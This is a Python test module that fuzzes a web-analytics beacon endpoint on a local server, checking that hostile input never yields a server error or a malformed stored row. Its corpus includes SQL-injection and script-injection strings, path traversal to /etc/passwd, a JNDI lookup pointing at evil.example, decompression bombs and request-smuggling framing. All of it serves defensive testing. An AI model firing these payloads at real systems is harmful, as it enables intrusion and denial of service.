"""Hostile input at the beacon endpoint: property-based tests and a corpus of nasty payloads.

One real server for the module (`create_app` served by uvicorn on a loopback port, rate limit
off, `max_body: 1MiB` so that big bodies reach the parser), over real HTTP with httpx, writing
a real SQLite file. Whatever is sent, the answer is never a 5xx, and after every request every
stored row is one observer could have made from a real browser: a known metric, a plausible
value, a page that is a bounded path without its query, bounded texts, no User-Agent string.

Hypothesis is derandomized (a fixed seed per test, no example database): the same examples
every run. The counts go into docs/reliability.md; `pytest -s` prints them.
"""

from __future__ import annotations

import contextlib
import copy
import gzip
import json
import math
import re
import socket
import sqlite3
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from observer.background import BackgroundServer
from observer.config import load_project
from observer.rum.model import FEEDBACK, KINDS, MAX_CLS, MAX_TIME_MS, NAV_TYPES, RATINGS, VITALS
from observer.server import create_app
from observer.store import SQLiteStore

# A distinctive User-Agent: its family and class may be stored, the string never.
UA = "FuzzAgent/9.9 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0.0.0 Safari/537.36"
UA_MARKERS = ("FuzzAgent", "AppleWebKit/537.36", "Mozilla/5.0 (iPhone")
DEVICES = (None, "mobile", "tablet", "desktop")
FORMATS = ("web-vitals", "faro", "snippet")
SQL = "'); drop table beacons; --"
HTML = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
# Text columns and the longest value each may hold (the parsers' caps).
TEXT_CAPS = {
    "app": 100,
    "session": 128,
    "load_id": 128,
    "label": 100,
    "detail": 1000,
    "browser": 40,
    "page": 300,
}
BROWSER_FAMILIES = {
    "HeadlessChrome",
    "Edge",
    "Opera",
    "Samsung Internet",
    "Firefox",
    "Chrome",
    "Safari",
    "bot",
    "other",
}

# --------------------------------------------------------------------------- the server


@dataclass
class Fuzz:
    """The module's server, its database, and what it answered."""

    url: str
    db: Path
    client: httpx.Client
    reader: sqlite3.Connection
    statuses: dict[str, Counter[int]] = field(default_factory=dict)  # by kind of input
    checked: int = 0  # the highest row id already validated

    @property
    def beacon(self) -> str:
        return f"{self.url}/beacon"

    def post(
        self, kind: str, body: bytes, ctype: str | None, headers: dict[str, str] | None = None
    ) -> httpx.Response:
        sent = {"User-Agent": UA, **(headers or {})}
        if ctype is not None:
            sent["Content-Type"] = ctype
        r = self.client.post(self.beacon, content=body, headers=sent)
        self.answered(kind, r.status_code)
        return r

    def answered(self, kind: str, status: int) -> None:
        self.statuses.setdefault(kind, Counter())[status] += 1

    def count(self) -> int:
        return int(self.reader.execute("select count(*) from beacons").fetchone()[0])


@pytest.fixture(scope="module")
def fuzz(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Fuzz]:
    folder = tmp_path_factory.mktemp("fuzz")
    file = folder / "observer.yaml"
    config = {"rum": {"rate_limit": "off", "max_body": "1MiB"}}
    file.write_text(json.dumps(config), encoding="utf-8")
    db = folder / "fuzz.db"
    store = SQLiteStore(db)
    server = BackgroundServer()
    server.start(create_app(load_project(file), store))
    # A connection per request: an answer that closes its connection cannot break the next.
    client = httpx.Client(timeout=60, limits=httpx.Limits(max_keepalive_connections=0))
    reader = sqlite3.connect(db)
    reader.row_factory = sqlite3.Row
    try:
        yield Fuzz(server.url, db, client, reader)
    finally:
        reader.close()
        client.close()
        server.stop()
        store.close()


# --------------------------------------------------------------------------- what a row may be


def row_problems(row: dict[str, Any]) -> list[str]:
    """Why a stored row could not have come from a real browser (empty: it could)."""
    bad = []
    metric, value = row["metric"], row["value"]
    if metric not in KINDS:
        bad.append(f"metric {metric!r}")
    if metric in VITALS:
        top = MAX_CLS if metric == "cls" else MAX_TIME_MS
        if not isinstance(value, float) or not math.isfinite(value) or not 0 <= value <= top:
            bad.append(f"{metric} value {value!r}")
        if row["rating"] not in RATINGS:
            bad.append(f"rating {row['rating']!r}")
    elif metric in FEEDBACK:
        low, high = FEEDBACK[metric]
        if not isinstance(value, float) or value != int(value) or not low <= value <= high:
            bad.append(f"{metric} answer {value!r}")
        detail = json.loads(row["detail"]) if row["detail"] else {}
        said = detail.get("comment", "")
        if (
            len(said) > 500
            or ("@" in said and "." in said.split("@")[-1])
            or re.search(r"\d{13}", said.replace(" ", "").replace("-", ""))
        ):
            bad.append(f"{metric} comment {said!r:.80}")
    elif value is not None or row["rating"] is not None:
        bad.append(f"{metric} carries value {value!r} / rating {row['rating']!r}")
    if metric in ("task_begin", "task_complete") and not row["label"]:
        bad.append("task milestone without a task")
    page = row["page"]
    if page is not None and (
        not isinstance(page, str) or not page.startswith("/") or len(page) > 300 or "?" in page
    ):
        bad.append(f"page {page!r:.80}")
    if row["nav_type"] not in (None, *NAV_TYPES):
        bad.append(f"nav_type {row['nav_type']!r}")
    if row["device"] not in DEVICES:
        bad.append(f"device {row['device']!r}")
    if row["format"] not in FORMATS:
        bad.append(f"format {row['format']!r}")
    if row["synthetic"] not in (0, 1):
        bad.append(f"synthetic {row['synthetic']!r}")
    if row["format"] != "faro" and row["browser"] not in (None, *BROWSER_FAMILIES):
        bad.append(f"browser {row['browser']!r}")  # Faro names its browser itself
    for column, cap in TEXT_CAPS.items():
        v = row[column]
        if v is not None and (not isinstance(v, str) or len(v) > cap or "\x00" in v):
            bad.append(f"{column} {v!r:.80} (cap {cap})")
    for column, v in row.items():
        if isinstance(v, str) and any(m in v for m in UA_MARKERS):
            bad.append(f"the User-Agent in {column}")
    return bad


def assert_rows_valid(fuzz: Fuzz) -> int:
    """Validate the rows stored since the last call; returns how many there were."""
    new = [
        dict(r)
        for r in fuzz.reader.execute(
            "select * from beacons where id > ? order by id", [fuzz.checked]
        )
    ]
    for row in new:
        problems = row_problems(row)
        assert not problems, (problems, {k: v for k, v in row.items() if k != "detail"})
        fuzz.checked = max(fuzz.checked, row["id"])
    return len(new)


def assert_answer(r: httpx.Response) -> None:
    """Never a 5xx; a 2xx says what it took, a 4xx says why in a short JSON reason."""
    assert r.status_code < 500, (r.status_code, r.text[:300])
    if r.status_code == 202:
        body = r.json()
        assert set(body) == {"accepted", "dropped"} and body["accepted"] >= 0, body
    else:
        assert 400 <= r.status_code < 500, r.status_code
        reason = r.json()["error"]
        assert isinstance(reason, str) and 0 < len(reason) <= 300, reason


# --------------------------------------------------------------------------- strategies

SCALARS = (
    st.none()
    | st.booleans()
    | st.integers()
    | st.integers(min_value=-(10**400), max_value=10**400)
    | st.floats(allow_nan=True, allow_infinity=True)
    | st.text(max_size=40)
)
JSON_VALUES = st.recursive(
    SCALARS,
    lambda inner: (
        st.lists(inner, max_size=6) | st.dictionaries(st.text(max_size=12), inner, max_size=6)
    ),
    max_leaves=30,
)
HOSTILE = st.sampled_from(
    [
        None,
        True,
        False,
        0,
        -1,
        -0.0,
        -1e-300,
        600_000.0001,
        100.0001,
        2**53 + 1,
        2**63,
        2**64 + 1,
        10**400,
        -(10**400),
        1e308,
        -1e308,
        float("nan"),
        float("inf"),
        float("-inf"),
        "",
        " ",
        "\x00",
        "a\x00b",
        "\ud800",
        "\udfff\ud800",
        "💥" * 50,
        "\u202e" + "gnp.exe",
        SQL,
        "1 OR 1=1",
        '"; DELETE FROM runs; --',
        HTML,
        "javascript:alert(1)",
        "../../../../etc/passwd",
        "https://user:pw@evil.example:99999/x?token=s3cr3t#frag",
        "http://[::1",
        "//evil.example//a///b",
        "%00%2e%2e%2f",
        "${jndi:ldap://evil.example/a}",
        "A" * 5000,
        "é" * 3000,
        [],
        {},
        [[[[[[[[[[]]]]]]]]]],
        {"a": {"b": {"c": {"d": {}}}}},
        list(range(200)),
        {str(i): i for i in range(50)},
    ]
)
MUTANT = HOSTILE | SCALARS | JSON_VALUES

WEB_VITAL = {
    "name": "LCP",
    "value": 2400.5,
    "rating": "good",
    "delta": 2400.5,
    "id": "v6-1-2",
    "navigationType": "navigate",
    "navigationId": "n1",
    "navigationURL": "https://shop.example/products/1?email=a%40b.c",
    "entries": [{"startTime": 1}],
    "attribution": {
        "target": "main>img",
        "url": "https://cdn.example/a.jpg",
        "timeToFirstByte": 300,
        "resourceLoadDelay": 20,
        "elementRenderDelay": 5,
    },
}
FARO = {
    "meta": {
        "app": {"name": "shop"},
        "page": {"url": "https://shop.example/cart?x=1", "id": "p1"},
        "session": {"id": "fs-1"},
        "browser": {"name": "Firefox", "mobile": False},
    },
    "measurements": [
        {
            "type": "web-vitals",
            "values": {"lcp": 1800, "cls": 0.02, "delta": 1},
            "context": {"id": "m1", "rating": "good", "navigation_type": "reload", "x": "y"},
        },
        {"type": "custom", "values": {"a": 1}},
    ],
    "exceptions": [
        {
            "type": "TypeError",
            "value": "x is undefined",
            "stacktrace": {"frames": [{"function": "f", "filename": "a.js", "lineno": 3}]},
        }
    ],
    "events": [
        {"name": "faro.page_view"},
        {"name": "task_begin", "attributes": {"task": "checkout"}},
        {"name": "feedback", "attributes": {"task": "checkout", "csat": "5", "comment": "ok"}},
    ],
    "logs": [{"message": "hello"}],
}
SNIPPET = {
    "observer": 1,
    "app": "shop",
    "sid": "sess-1",
    "load": "load-1",
    "syn": False,
    "page": "https://shop.example/checkout?card=4242",
    "ua": "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) Mobile Safari/604.1",
    "items": [
        {"k": "pageview", "id": "1", "nav": "navigate"},
        {"k": "vital", "id": "2", "n": "INP", "v": 120, "r": "good", "a": {"inputDelay": 4}},
        {"k": "error", "id": "3", "type": "Error", "msg": "boom", "src": "app.js:1"},
        {"k": "task", "id": "4", "phase": "begin", "task": "checkout"},
        {"k": "task", "id": "5", "phase": "complete", "task": "checkout", "u": "/done"},
        {
            "k": "feedback",
            "id": "6",
            "task": "checkout",
            "csat": 4,
            "ces": 6,
            "nps": 9,
            "comment": "fine, mail a@b.co",
        },
        {"k": "frustration", "id": "7", "t": "rage", "sel": "button#pay"},
    ],
}
TEMPLATES = {"web-vitals": WEB_VITAL, "web-vitals-array": [WEB_VITAL, WEB_VITAL], "faro": FARO}
TEMPLATES["snippet"] = SNIPPET
ACCEPTED_CTYPES = st.sampled_from(
    [
        "application/json",
        "text/plain;charset=UTF-8",
        "application/reports+json",
        "text/plain; charset=latin-1",
        None,
    ]
)
RANDOM_CTYPES = st.from_regex(
    r"[a-z]{1,12}/[a-z0-9.+-]{1,20}(; ?[a-z]{1,8}=[a-z0-9-]{1,10})?", fullmatch=True
)
# Three in four bodies go out with a type the server accepts, so that most reach the parsers.
CTYPES = st.tuples(st.integers(0, 3), ACCEPTED_CTYPES, RANDOM_CTYPES).map(
    lambda t: t[2] if t[0] == 3 else t[1]
)


def paths(value: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every place in a JSON document a value could be replaced."""
    out = [prefix] if prefix else []
    if isinstance(value, dict):
        for k, v in value.items():
            out += paths(v, (*prefix, k))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            out += paths(v, (*prefix, i))
    return out


def replace(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    doc = copy.deepcopy(doc)
    parent = doc
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return doc


def encode(data: Any, ascii_only: bool) -> bytes:
    """JSON text as a sender would write it; NaN and Infinity as the bare literals JSON lacks.

    With non-ASCII characters written out, a lone surrogate cannot be UTF-8: it goes out as
    the bytes a careless encoder would write (invalid UTF-8).
    """
    text = json.dumps(data, ensure_ascii=ascii_only, allow_nan=True)
    return text.encode("utf-8", "surrogatepass")


def send_and_check(fuzz: Fuzz, kind: str, body: bytes, ctype: str | None, gz: bool = False) -> None:
    headers = {"Content-Encoding": "gzip"} if gz else {}
    r = fuzz.post(kind, gzip.compress(body) if gz else body, ctype, headers)
    assert_answer(r)
    assert_rows_valid(fuzz)


FUZZ = settings(
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

# --------------------------------------------------------------------------- properties


@settings(FUZZ, max_examples=100)
@given(data=JSON_VALUES, ctype=CTYPES, ascii_only=st.booleans())
def test_any_json_value_is_never_a_5xx(
    fuzz: Fuzz, data: Any, ctype: str | None, ascii_only: bool
) -> None:
    send_and_check(fuzz, "json values", encode(data, ascii_only), ctype)


@settings(FUZZ, max_examples=50)
@given(body=st.binary(max_size=4096), ctype=CTYPES, gz=st.booleans())
def test_any_bytes_are_never_a_5xx(fuzz: Fuzz, body: bytes, ctype: str | None, gz: bool) -> None:
    send_and_check(fuzz, "raw bytes", body, ctype, gz)


@settings(FUZZ, max_examples=250)
@given(
    fmt=st.sampled_from(sorted(TEMPLATES)),
    picks=st.lists(st.tuples(st.integers(min_value=0), MUTANT), min_size=1, max_size=4),
    ctype=CTYPES,
    ascii_only=st.booleans(),
    gz=st.booleans(),
)
def test_mutated_valid_payloads_store_only_valid_rows(
    fuzz: Fuzz,
    fmt: str,
    picks: list[tuple[int, Any]],
    ctype: str | None,
    ascii_only: bool,
    gz: bool,
) -> None:
    doc = TEMPLATES[fmt]
    for index, value in picks:
        where = paths(doc)
        doc = replace(doc, where[index % len(where)], value)
    send_and_check(fuzz, "mutated payloads", encode(doc, ascii_only), ctype, gz)


def test_unmutated_templates_are_accepted(fuzz: Fuzz) -> None:
    """The fuzzing starts from payloads that are valid: every one is stored as it should be."""
    # The snippet's feedback item carries three answers: a row each.
    want = {"web-vitals": 1, "web-vitals-array": 2, "faro": 6, "snippet": 9}
    for name, doc in TEMPLATES.items():
        r = fuzz.post("templates", json.dumps(doc).encode(), "application/json")
        assert r.status_code == 202, r.text
        assert r.json() == {"accepted": want[name], "dropped": 0}, name
        assert_rows_valid(fuzz)


# --------------------------------------------------------------------------- the corpus


def wv(value: Any = 1000, metric_id: str = "c", **extra: Any) -> dict[str, Any]:
    return {"name": "LCP", "value": value, "id": metric_id, **extra}


def snip(items: list[Any], **extra: Any) -> dict[str, Any]:
    return {"observer": 1, "sid": "corpus", "load": "l", "items": items, **extra}


def raw(text: str) -> bytes:
    return text.encode()


def bomb(size: int, wbits: int = 31) -> bytes:
    """size bytes of zeros, compressed (gzip by default): small on the wire."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    chunk = b"\0" * (1 << 20)
    out = [packer.compress(chunk) for _ in range(size >> 20)]
    return b"".join([*out, packer.flush()])


def multipart() -> bytes:
    return (
        b"--xyz\r\nContent-Disposition: form-data; name=beacon\r\n\r\n"
        + json.dumps(wv()).encode()
        + b"\r\n--xyz--\r\n"
    )


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17) + json.dumps(wv()).encode()


def stored(where: str, *args: Any, n: int = 1) -> Callable[[Fuzz], None]:
    """A check that exactly n rows match."""

    def check(fuzz: Fuzz) -> None:
        got = fuzz.reader.execute(f"select count(*) from beacons where {where}", args).fetchone()
        assert got[0] == n, (where, args, got[0])

    return check


@dataclass
class Case:
    id: str
    body: bytes
    want: int | set[int]
    ctype: str | None = "application/json"
    headers: dict[str, str] = field(default_factory=dict)
    then: Callable[[Fuzz], None] | None = None


CORPUS = [
    # numbers
    Case("int-1e400", raw('{"name":"LCP","value":1' + "0" * 400 + ',"id":"n1"}'), 400),
    Case("float-1e400", raw('{"name":"LCP","value":1e400,"id":"n2"}'), 400),
    Case("negative", json.dumps(wv(-1, "n3")).encode(), 400),
    Case("minus-1e308", json.dumps(wv(-1e308, "n4")).encode(), 400),
    Case("just-past-10-min", json.dumps(wv(600_000.001, "n5")).encode(), 400),
    Case("cls-101", json.dumps({"name": "CLS", "value": 101, "id": "n6"}).encode(), 400),
    Case("int-5000-digits", raw('{"name":"LCP","value":' + "9" * 5000 + "}"), 400),
    Case(
        "huge-int-in-attribution",
        raw('{"name":"LCP","value":5,"id":"n7","attribution":{"url":1' + "0" * 400 + "}}"),
        202,
        then=stored("dedupe = 'wv:n7' and detail is null"),
    ),
    Case(
        "faro-huge-int-and-nan-strings",
        raw(
            '{"meta":{},"measurements":[{"type":"web-vitals","values":{"lcp":1'
            + "0" * 400
            + ',"fcp":"NaN","ttfb":12.345}}]}'
        ),
        202,
        then=stored("format = 'faro' and metric = 'ttfb' and value = 12.345"),
    ),
    Case("nan-literal", raw('{"name":"LCP","value":NaN,"id":"n8"}'), 400),
    Case("infinity-literal", raw('[{"name":"CLS","value":Infinity,"id":"n9"}]'), 400),
    Case(
        "minus-infinity-in-snippet",
        raw('{"observer":1,"items":[{"k":"vital","n":"LCP","v":-Infinity}]}'),
        400,
    ),
    # nesting
    Case("arrays-10000-deep", b"[" * 10_000 + b"]" * 10_000, 400),
    Case("objects-10000-deep", b'{"a":' * 10_000 + b"1" + b"}" * 10_000, 400),
    Case(
        "attribution-500-deep",
        json.dumps(wv(1, "d5", attribution=json.loads("[" * 500 + "]" * 500))).encode(),
        400,
    ),
    # encodings
    Case("invalid-utf8", b'{"name":"LCP","value":1,"id":"\xff\xfe"}', 400),
    Case("overlong-utf8", b'{"name":"LCP","value":1,"id":"\xc0\xaf"}', 400),
    Case("truncated-utf8", b'{"name":"LCP","value":1,"id":"\xe2\x82"}', 400),
    Case("utf8-encoded-surrogate", b'{"name":"LCP","value":1,"id":"\xed\xa0\x80"}', 400),
    Case("utf16-body", json.dumps(wv(1, "u16")).encode("utf-16"), 400),
    Case("utf8-bom", b"\xef\xbb\xbf" + json.dumps(wv(1, "bom")).encode(), 400),
    Case(
        "escaped-lone-surrogates",
        raw(
            r'{"observer":1,"sid":"sur","items":[{"k":"error","id":"1","type":"\ud800x",'
            r'"msg":"\udfff","u":"https://x/\ud83d/p"}]}'
        ),
        202,
        then=stored("session = 'sur' and label = ? and page = ?", "\ufffdx", "/\ufffd/p"),
    ),
    # size
    Case(
        "1MB-string-in-a-page-url",
        json.dumps(wv(1, "big", navigationURL="https://x/" + "p" * 1_000_000)).encode(),
        202,
        then=stored("dedupe = 'wv:big' and length(page) = 300"),
    ),
    Case(
        "1MB-string-as-a-label",
        json.dumps(
            snip([{"k": "task", "id": "1", "phase": "begin", "task": "t" * 1_000_000}], sid="bigl")
        ).encode(),
        202,
        then=stored("session = 'bigl' and length(label) = 100"),
    ),
    Case("2MB-body", json.dumps(wv(1, "x", navigationURL="p" * 2_000_000)).encode(), 413),
    Case("gzip-bomb-50MB", bomb(50 << 20), 413, headers={"Content-Encoding": "gzip"}),
    Case("deflate-bomb-50MB", bomb(50 << 20, 15), 413, headers={"Content-Encoding": "deflate"}),
    Case(
        "gzip-truncated",
        gzip.compress(json.dumps(wv()).encode())[:20],
        400,
        headers={"Content-Encoding": "gzip"},
    ),
    Case("gzip-of-nothing", gzip.compress(b""), 400, headers={"Content-Encoding": "gzip"}),
    Case(
        "gzip-twice-declared",
        gzip.compress(json.dumps(wv()).encode()),
        415,
        headers={"Content-Encoding": "gzip, gzip"},
    ),
    # content types
    Case("image/png", PNG, 415, ctype="image/png"),
    Case("multipart", multipart(), 415, ctype="multipart/form-data; boundary=xyz"),
    Case("form-urlencoded", b"name=LCP&value=1", 415, ctype="application/x-www-form-urlencoded"),
    Case("text/html", b"<html>" + json.dumps(wv()).encode(), 415, ctype="text/html"),
    Case("no-content-type", json.dumps(wv(7, "noct")).encode(), 202, ctype=None),
    # injection, stored as data
    Case(
        "sql-in-page-url",
        json.dumps(wv(1, "sql1", navigationURL=f"https://shop.example/{SQL}")).encode(),
        202,
        then=stored("page = ?", f"/{SQL}"),
    ),
    Case(
        "sql-in-task-app-and-session",
        json.dumps(
            snip([{"k": "task", "id": "1", "phase": "begin", "task": SQL}], sid=SQL, app=SQL)
        ).encode(),
        202,
        then=stored("label = ? and app = ? and session = ?", SQL, SQL, SQL),
    ),
    Case(
        "sql-in-headers",
        json.dumps(
            {"meta": {"page": {"url": "/sqlh"}}, "events": [{"name": "faro.page_view"}]}
        ).encode(),
        202,
        headers={"Idempotency-Key": SQL, "X-Faro-Session-Id": SQL, "Referer": f"https://x/{SQL}"},
        then=stored("page = '/sqlh' and session = ? and dedupe = ?", SQL, f"faro:{SQL}:1"),
    ),
    Case(
        "html-in-page-and-error",
        json.dumps(
            snip(
                [{"k": "error", "id": "1", "type": HTML, "msg": HTML, "u": f"https://x/{HTML}"}],
                sid="html",
            )
        ).encode(),
        202,
        then=stored("session = 'html' and page = ? and label = ?", f"/{HTML}", HTML),
    ),
    # batch sizes
    Case("1000-items", json.dumps([wv(1, f"k{i}") for i in range(1000)]).encode(), 202),
    Case("5000-web-vitals", json.dumps([wv(1, f"f{i}") for i in range(5000)]).encode(), 400),
    Case(
        "5000-snippet-items",
        json.dumps(snip([{"k": "pageview", "id": str(i)} for i in range(5000)])).encode(),
        400,
    ),
    Case(
        "faro-10000-exceptions",
        json.dumps({"meta": {}, "exceptions": [{}] * 10_000}).encode(),
        400,
    ),
    Case(
        "faro-10000-logs",
        json.dumps({"meta": {}, "logs": [{"message": "x"}] * 10_000}).encode(),
        202,
    ),
    # shapes the parsers must not trip on
    Case("name-is-a-list", raw('{"name":[],"value":1}'), 400),
    Case(
        "second-name-is-an-object",
        raw('[{"name":"LCP","value":1,"id":"h1"},{"name":{},"value":1}]'),
        202,
    ),
    Case(
        "snippet-vital-name-is-a-list",
        raw('{"observer":1,"items":[{"k":"vital","n":[1],"v":1}]}'),
        400,
    ),
    Case(
        "faro-meta-fields-wrong-types",
        raw(
            '{"meta":{"app":[],"page":"x","session":1,"browser":{"mobile":"yes","name":{}}},"events":[{"name":"faro.page_view"}]}'
        ),
        202,
    ),
    Case("items-not-a-list", raw('{"observer":1,"items":{"k":"pageview"}}'), 400),
    Case(
        "duplicate-keys",
        raw('{"name":"LCP","name":"CLS","value":1,"value":0.5,"id":"dup"}'),
        202,
        then=stored("dedupe = 'wv:dup' and metric = 'cls' and value = 0.5"),
    ),
    # headers
    Case(
        "300KB-user-agent",
        json.dumps(wv(1, "ua1")).encode(),
        202,
        headers={"User-Agent": "Version/1" * 33_000 + " Safari/1"},
        then=stored("dedupe = 'wv:ua1' and browser = 'other'"),
    ),
    Case(
        "user-agent-read-only-for-its-first-500-characters",
        json.dumps(wv(1, "ua2")).encode(),
        202,
        headers={"User-Agent": "x" * 600 + " Firefox/128.0"},
        then=stored("dedupe = 'wv:ua2' and browser = 'other'"),
    ),
    Case(
        "100KB-referer-and-idempotency-key",
        json.dumps({"meta": {}, "events": [{"name": "faro.page_view"}]}).encode(),
        202,
        headers={"Referer": "https://x/" + "r" * 100_000, "Idempotency-Key": "i" * 100_000},
        then=stored("length(page) = 300 and dedupe = ?", f"faro:{'i' * 128}:1"),
    ),
]


@pytest.mark.parametrize("case", CORPUS, ids=[c.id for c in CORPUS])
def test_hostile_corpus(fuzz: Fuzz, case: Case) -> None:
    before = fuzz.count()
    r = fuzz.post("corpus", case.body, case.ctype, case.headers)
    want = {case.want} if isinstance(case.want, int) else case.want
    assert r.status_code in want, (r.status_code, r.text[:300])
    assert_answer(r)
    added = assert_rows_valid(fuzz)
    if r.status_code != 202:
        assert fuzz.count() == before, "a refused request stored something"
    else:
        assert added <= r.json()["accepted"]
    if case.then is not None:
        case.then(fuzz)


def raw_exchange(url: str, request: bytes) -> bytes:
    """Send bytes on a fresh connection and read until the server answers or closes."""
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as sock:
        sock.sendall(request)
        data = b""
        with contextlib.suppress(ConnectionResetError):
            while b"\r\n\r\n" not in data:
                chunk = sock.recv(65536)
                if not chunk:
                    break
                data += chunk
    return data


BAD_FRAMING = {
    "content-length-not-a-number": b"Content-Length: abc\r\n\r\n{}",
    "content-length-negative": b"Content-Length: -5\r\n\r\n{}",
    "content-length-twice": b"Content-Length: 2\r\nContent-Length: 9\r\n\r\n{}",
    "chunk-size-not-hex": b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
    "te-and-cl": b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "request-line-only": b"",
    "header-without-colon": b"Nonsense header line\r\n\r\n{}",
}
HEAD = b"POST /beacon HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"


@pytest.mark.parametrize("tail", BAD_FRAMING.values(), ids=list(BAD_FRAMING))
def test_bad_http_framing_is_never_a_5xx(fuzz: Fuzz, tail: bytes) -> None:
    if tail:
        answer = raw_exchange(fuzz.url, HEAD + tail)
    else:
        answer = raw_exchange(fuzz.url, b"POST /beacon HTTP/1.1\r\n\r\n")
    if answer:  # a closed connection is a fine answer to garbage
        status = int(answer.split(b" ", 2)[1])
        fuzz.answered("bad framing", status)
        assert status < 500, answer[:300]
    else:
        fuzz.answered("bad framing", 0)
    assert_rows_valid(fuzz)


def test_a_client_that_leaves_mid_body_is_let_go(fuzz: Fuzz) -> None:
    """Half a body, then the connection closes: nothing stored, the server goes on."""
    host, port = fuzz.url.removeprefix("http://").split(":")
    before = fuzz.count()
    for _ in range(20):
        with socket.create_connection((host, int(port)), timeout=20) as sock:
            sock.sendall(HEAD + b"Content-Length: 500\r\n\r\n" + json.dumps(wv())[:20].encode())
        fuzz.answered("left mid-body", 0)
    ok = fuzz.post("left mid-body", json.dumps(wv(5, "after-leavers")).encode(), None)
    assert ok.status_code == 202
    assert fuzz.count() == before + 1
    assert_rows_valid(fuzz)


# --------------------------------------------------------------------------- afterwards


def test_server_alive_tables_intact_and_every_row_valid(fuzz: Fuzz) -> None:
    """Runs last: after everything above, the server answers and the data is sound."""
    health = fuzz.client.get(f"{fuzz.url}/healthz")
    assert health.status_code == 200 and health.json()["status"] == "ok"
    ok = fuzz.post("afterwards", json.dumps(wv(1234, "after")).encode(), "application/json")
    assert ok.json() == {"accepted": 1, "dropped": 0}
    tables = {r[0] for r in fuzz.reader.execute("select name from sqlite_master")}
    assert {"beacons", "runs", "incidents", "beacons_dedupe"} <= tables
    assert fuzz.reader.execute("pragma integrity_check").fetchone()[0] == "ok"
    fuzz.checked = 0
    total = assert_rows_valid(fuzz)
    fives = {k: n for k, c in fuzz.statuses.items() for status, n in c.items() if status >= 500}
    assert not fives, fuzz.statuses
    print("\nfuzz: requests by kind and answer (0: connection closed without an answer)")
    for kind, c in fuzz.statuses.items():
        print(f"  {kind}: {sum(c.values())} {dict(sorted(c.items()))}")
    print(f"  rows stored: {total}, all valid; 5xx: 0")
